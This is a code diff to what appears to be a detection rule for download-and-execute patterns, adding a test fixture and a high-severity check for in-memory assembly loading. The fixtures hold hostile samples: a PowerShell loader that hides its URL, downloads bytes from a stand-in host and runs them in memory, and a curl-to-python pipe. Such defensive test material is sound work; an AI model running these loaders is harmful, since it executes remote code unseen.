@@ -128,6 +128,11 @@ export const pipeToShell = defineRule({
         lines: [1],
       },
       {
+        path: 'c.ps1',
+        text: '$u = "hxps://cdn.helperhub.test/p".Replace("hx", "htt")\n$r = [Net.WebRequest]::Create($u).GetResponse()\n$m = New-Object IO.MemoryStream\n$r.GetResponseStream().CopyTo($m)\n[Reflection.Assembly]::Load($m.ToArray()).EntryPoint.Invoke($null, $null)\n',
+        lines: [2],
+      },
+      {
         text: 'Download helper:\n\n```\ncurl -sL https://pastebin.com/raw/Ab12Cd34 | python3\n```\n',
         lines: [4],
       },
@@ -164,6 +169,8 @@ const direct = nearKeywords({
   reach: 700,
   accept: (match, { artefact }) => {
     const trust = judgeFetch(match[0], artefact);
+    // A program that never touches the disk is hidden from whoever would look at it, wherever it comes from.
+    if (trust === 'variable' && /Assembly\]::Load/i.test(match[0])) return { severity: 'high' };
     return { severity: severities[trust], key: match[0].replaceAll(/\s+/g, ' ') };
   },
 });
